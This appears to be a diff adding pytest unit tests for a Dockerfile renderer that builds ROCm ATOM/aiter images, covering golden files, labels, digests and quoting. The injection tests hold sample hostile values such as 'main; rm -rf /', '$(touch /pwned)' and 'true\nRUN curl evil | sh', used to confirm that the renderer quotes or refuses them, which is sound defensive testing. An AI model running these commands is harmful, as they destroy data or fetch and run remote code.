@@ -1,0 +1,308 @@
+"""Render, unit tier: values, labels, inputs digest, quoting and golden Dockerfiles.
+
+No git, no docker: `plan_render` and `render_dockerfile` are pure. Set
+UPDATE_GOLDEN=1 to rewrite the golden files after an intended template change
+(and review the diff).
+"""
+
+from __future__ import annotations
+
+import json
+import os
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from pipeline import labels
+from pipeline.config import Settings, load_settings
+from pipeline.errors import ExitCode, RenderError
+from pipeline.lock import BaseImagePin, Lock, PatchPin, SourcePin, Sources, Submodule
+from pipeline.render import (
+    TEMPLATE,
+    RenderPlan,
+    SubmoduleSpec,
+    f_dq,
+    f_sh,
+    pep440_from_describe,
+    plan_render,
+    render_dockerfile,
+    template_sources,
+)
+
+ROOT = Path(__file__).resolve().parents[2]
+TEMPLATES = ROOT / "dockerfiles"
+GOLDEN = Path(__file__).parent / "golden"
+
+ATOM_SHA = "ab9eb78105ac2e34153874bc0064b75c96c21b7a"
+AITER_SHA = "08f04b889a4e3c2d1b0a9f8e7d6c5b4a39281706"
+CK_SHA = "15e12dd7f25ee583617c78f66cb502ff9916585f"
+BASE_DIGEST = "sha256:" + "1" * 64
+PATCH = PatchPin(name="0001-minimax-m3-split-kv-cache.patch", sha256="2" * 64, status="applied")
+CK = "3rdparty/composable_kernel"
+CK_URL = "https://github.com/ROCm/composable_kernel.git"
+
+
+def settings(tmp_path: Path, **env: str) -> Settings:
+    return load_settings(env={f"PIPELINE_{k.upper()}": v for k, v in env.items()}, cwd=tmp_path)
+
+
+def make_lock(s: Settings, *, patches: tuple[PatchPin, ...] = (PATCH,), atom_ref: str = "main") -> Lock:
+    atom = SourcePin(
+        url="https://github.com/ROCm/ATOM.git",
+        ref=atom_ref,
+        sha=ATOM_SHA,
+        date="2026-06-24T09:12:00Z",
+        subject="MiniMax-M3 recipe",
+    )
+    aiter = SourcePin(
+        url="https://github.com/ROCm/aiter.git",
+        ref="main",
+        sha=AITER_SHA,
+        date="2026-06-23T10:09:28Z",
+        subject="split kv_cache",
+        submodules=(Submodule(path=CK, url=CK_URL, sha=CK_SHA),),
+    )
+    return Lock(
+        model="MiniMax-M3-MXFP4",
+        sources=Sources(atom=atom, aiter=aiter),
+        base_image=BaseImagePin(ref=s.image.base_image, digest=BASE_DIGEST),
+        patches=patches,
+    )
+
+
+def plan(
+    s: Settings,
+    lock: Lock | None = None,
+    *,
+    source: str = "mirror",
+    templates: Path = TEMPLATES,
+    epoch: int | None = None,
+    atom_tree: str = "3" * 40,
+    recipe_sha: str = "5" * 64,
+) -> RenderPlan:
+    return plan_render(
+        lock=lock or make_lock(s),
+        atom_tree=atom_tree,
+        aiter_tree="4" * 40,
+        submodules=(SubmoduleSpec(CK, CK_URL, CK_SHA, source),),
+        recipe_name="MiniMax-M3-MXFP4.yaml",
+        recipe_sha256=recipe_sha,
+        settings=s,
+        template_hashes=template_sources(templates),
+        source_date_epoch=epoch,
+        atom_version="0.1.5+12.gab9eb78105.p1234abcd",
+        aiter_version="0.1.16+86.g08f04b889a",
+    )
+
+
+def check_golden(name: str, text: str) -> None:
+    path = GOLDEN / name
+    if os.environ.get("UPDATE_GOLDEN") == "1":
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text, encoding="utf-8")
+    assert path.is_file(), f"golden file {path} missing: run with UPDATE_GOLDEN=1 and review it"
+    assert text == path.read_text(encoding="utf-8"), f"rendered Dockerfile differs from {path}"
+
+
+# --------------------------------------------------------------------------- golden files
+
+
+def test_golden_real_defaults_for_mi355(tmp_path: Path) -> None:
+    s = settings(tmp_path)
+    p = plan(s)
+    text = render_dockerfile(TEMPLATES, p.values)
+    check_golden("Dockerfile.defaults", text)
+    # The real shape, independently of the golden file:
+    assert f"FROM {s.image.base_image}@{BASE_DIGEST} AS base\n" in text
+    assert "RUN PREBUILD_KERNELS=1 GPU_ARCHS=gfx950 python3 setup.py develop\n" in text
+    assert "RUN pip install -e .\n" in text
+    assert "WORKDIR /app/ATOM\n" in text
+    assert "git clone" not in text and "git fetch" not in text
+    assert "--mount" not in text and "<<" not in text  # classic builder only
+
+
+def test_golden_in_build_submodule(tmp_path: Path) -> None:
+    text = render_dockerfile(TEMPLATES, plan(settings(tmp_path), source="in-build").values)
+    check_golden("Dockerfile.in-build-submodule", text)
+    assert f"git fetch -q --depth 1 {CK_URL} {CK_SHA}" in text
+    assert f'test "$(git rev-parse HEAD)" = {CK_SHA}' in text
+
+
+def test_golden_test_configuration_without_patches(tmp_path: Path) -> None:
+    s = settings(
+        tmp_path,
+        base_image="atom-pipeline-test/bookworm-python3:1",
+        repository="atom-pipeline-test/atom",
+        gpu_archs="gfx942;gfx950",
+        aiter_build_cmd="python3 -m compileall -q .",
+        atom_install_cmd="python3 install_marker.py",
+    )
+    text = render_dockerfile(TEMPLATES, plan(s, make_lock(s, patches=())).values)
+    check_golden("Dockerfile.test-config", text)
+    assert 'GPU_ARCH_LIST="gfx942;gfx950"' in text
+
+
+# --------------------------------------------------------------------------- order / caching shape
+
+
+def test_aiter_stage_holds_nothing_from_atom(tmp_path: Path) -> None:
+    s = settings(tmp_path)
+    a = render_dockerfile(TEMPLATES, plan(s).values)
+    b = render_dockerfile(
+        TEMPLATES,
+        plan(
+            s, make_lock(s, patches=(PATCH.model_copy(update={"sha256": "9" * 64}),)), atom_tree="8" * 40
+        ).values,
+    )
+    cut = "FROM aiter AS atom"
+
+    def instructions(text: str) -> str:  # comments do not take part in the build cache
+        return "\n".join(ln for ln in text.splitlines() if not ln.startswith("#"))
+
+    # every instruction up to the ATOM stage is byte-identical: the aiter layers stay cached
+    assert instructions(a.split(cut)[0]) == instructions(b.split(cut)[0])
+    assert instructions(a.split(cut)[1]) != instructions(b.split(cut)[1])
+
+
+# --------------------------------------------------------------------------- labels and digest
+
+
+def test_labels(tmp_path: Path) -> None:
+    s = settings(tmp_path)
+    p = plan(s)
+    lab = p.labels
+    assert lab[labels.OCI_SOURCE] == "https://github.com/ROCm/ATOM.git"
+    assert lab[labels.OCI_REVISION] == ATOM_SHA
+    assert lab[labels.OCI_CREATED] == "2026-06-24T09:12:00Z"  # max(atom date, aiter date)
+    assert lab[labels.OCI_BASE_NAME] == s.image.base_image
+    assert lab[labels.OCI_BASE_DIGEST] == BASE_DIGEST
+    assert lab[labels.ATOM_SHA] == ATOM_SHA and lab[labels.AITER_SHA] == AITER_SHA
+    assert json.loads(lab[labels.PATCHES]) == [{"name": PATCH.name, "sha256": PATCH.sha256}]
+    assert lab[labels.RECIPE] == "MiniMax-M3-MXFP4.yaml" and lab[labels.RECIPE_SHA256] == "5" * 64
+    assert lab[labels.LOCK_SHA256] == make_lock(s).digest()
+    assert lab[labels.INPUTS_DIGEST] == p.inputs_digest
+    assert p.image_ref == f"{s.image.repository}:candidate-{p.inputs_digest[:12]}"
+    for key in (labels.OCI_VERSION, labels.OCI_TITLE, labels.TOOL_VERSION, labels.MODEL):
+        assert lab[key]
+    text = render_dockerfile(TEMPLATES, p.values)
+    assert f'"{labels.INPUTS_DIGEST}"="{p.inputs_digest}"' in text
+
+
+def test_source_date_epoch_sets_created(tmp_path: Path) -> None:
+    p = plan(settings(tmp_path), epoch=1_700_000_000)
+    assert p.labels[labels.OCI_CREATED] == "2023-11-14T22:13:20Z"
+
+
+def test_deterministic_and_digest_tracks_every_input(tmp_path: Path) -> None:
+    s = settings(tmp_path)
+    base = plan(s)
+    again = plan(s)
+    assert render_dockerfile(TEMPLATES, base.values) == render_dockerfile(TEMPLATES, again.values)
+    assert base.inputs_digest == again.inputs_digest
+
+    changed = {
+        "patch": plan(s, make_lock(s, patches=(PATCH.model_copy(update={"sha256": "9" * 64}),))),
+        "recipe": plan(s, recipe_sha="6" * 64),
+        "atom tree": plan(s, atom_tree="7" * 40),
+        "build command": plan(settings(tmp_path, aiter_build_cmd="python3 setup.py develop")),
+        "epoch": plan(s, epoch=1),
+    }
+    tpl = tmp_path / "tpl"
+    tpl.mkdir()
+    (tpl / TEMPLATE).write_text((TEMPLATES / TEMPLATE).read_text() + "# one more comment\n")
+    changed["template"] = plan(s, templates=tpl)
+    for what, other in changed.items():
+        assert other.inputs_digest != base.inputs_digest, what
+
+
+# --------------------------------------------------------------------------- quoting / injection
+
+
+@pytest.mark.parametrize("evil", ["main; rm -rf /", "$(touch /pwned)", "`id`", 'a"b\\c', "x' y"])
+def test_ref_values_are_quoted_in_labels(tmp_path: Path, evil: str) -> None:
+    s = settings(tmp_path)
+    p = plan(s, make_lock(s, atom_ref=evil))
+    text = render_dockerfile(TEMPLATES, p.values)
+    line = next(ln for ln in text.splitlines() if "atom.ref" in ln)
+    expected = '"' + evil.replace("\\", "\\\\").replace('"', '\\"').replace("$", "\\$") + '"'
+    assert line.strip().startswith(f'"org.atom-image-pipeline.atom.ref"={expected}')
+    assert evil not in [ln.strip() for ln in text.splitlines()]  # never a line of its own
+
+
+def test_newline_in_value_is_refused(tmp_path: Path) -> None:
+    s = settings(tmp_path)
+    with pytest.raises(RenderError) as e:
+        render_dockerfile(TEMPLATES, plan(s, make_lock(s, atom_ref="main\nRUN rm -rf /")).values)
+    assert "newline" in str(e.value) and e.value.exit_code == ExitCode.RENDER
+
+
+def test_multiline_build_command_is_refused(tmp_path: Path) -> None:
+    s = settings(tmp_path, aiter_build_cmd="true\nRUN curl evil | sh")
+    with pytest.raises(RenderError, match="control character"):
+        render_dockerfile(TEMPLATES, plan(s).values)
+
+
+def test_shell_and_label_quoting() -> None:
+    assert f_sh("main; rm -rf /") == "'main; rm -rf /'"
+    assert f_sh("abc") == "abc"
+    assert f_dq('$HOME "x" \\') == '"\\$HOME \\"x\\" \\\\"'
+
+
+def test_unpinned_base_image_is_refused(tmp_path: Path) -> None:
+    s = settings(tmp_path)
+    lock = make_lock(s).model_copy(update={"base_image": BaseImagePin(ref=s.image.base_image)})
+    with pytest.raises(RenderError, match="without a digest"):
+        plan(s, lock)
+
+
+def test_base_image_changed_since_pin_is_refused(tmp_path: Path) -> None:
+    s = settings(tmp_path)
+    other = settings(tmp_path, base_image="rocm/pytorch:other")
+    with pytest.raises(RenderError, match="pipeline pin"):
+        plan(other, make_lock(s))
+
+
+def test_bad_repository_is_refused(tmp_path: Path) -> None:
+    with pytest.raises(RenderError, match="repository"):
+        plan(settings(tmp_path, repository="Rocm/ATOM dev;x"))
+
+
+# --------------------------------------------------------------------------- template errors
+
+
+def _templates(tmp_path: Path, text: str) -> Path:
+    d = tmp_path / "bad"
+    d.mkdir()
+    (d / TEMPLATE).write_text(text)
+    return d
+
+
+def test_syntax_error_names_file_and_line(tmp_path: Path) -> None:
+    d = _templates(tmp_path, "FROM {{ base_image | image }}\n# ok\nRUN {% if %}\n")
+    values: dict[str, Any] = plan(settings(tmp_path)).values
+    with pytest.raises(RenderError) as e:
+        render_dockerfile(d, values)
+    assert f"{d / TEMPLATE}:3" in str(e.value) and e.value.exit_code == ExitCode.RENDER
+
+
+def test_missing_value_is_an_error_not_empty(tmp_path: Path) -> None:
+    d = _templates(tmp_path, "FROM {{ base_image | image }}\n\nRUN {{ no_such_value | sh }}\n")
+    with pytest.raises(RenderError) as e:
+        render_dockerfile(d, plan(settings(tmp_path)).values)
+    assert "no_such_value" in str(e.value) and f"{d / TEMPLATE}:3" in str(e.value)
+
+
+def test_unquoted_value_is_refused(tmp_path: Path) -> None:
+    d = _templates(tmp_path, "FROM {{ base_image | image }}\nRUN echo {{ model }}\n")
+    with pytest.raises(RenderError) as e:
+        render_dockerfile(d, plan(settings(tmp_path)).values)
+    assert "without a quoting filter" in str(e.value) and f"{d / TEMPLATE}:2" in str(e.value)
+
+
+def test_version_from_describe() -> None:
+    sha = AITER_SHA
+    assert pep440_from_describe("v0.1.16-86-g08f04b889a", sha) == "0.1.16+86.g08f04b889a"
+    assert pep440_from_describe("v0.1.9.post1-0-g08f04b889a", sha) == "0.1.9.post1+g08f04b889a"
+    assert pep440_from_describe(None, sha, "p1") == "0.0.0+g08f04b889a.p1"
+    assert pep440_from_describe("weird-tag;rm-3-gabc", sha) == "0.0.0+g08f04b889a"
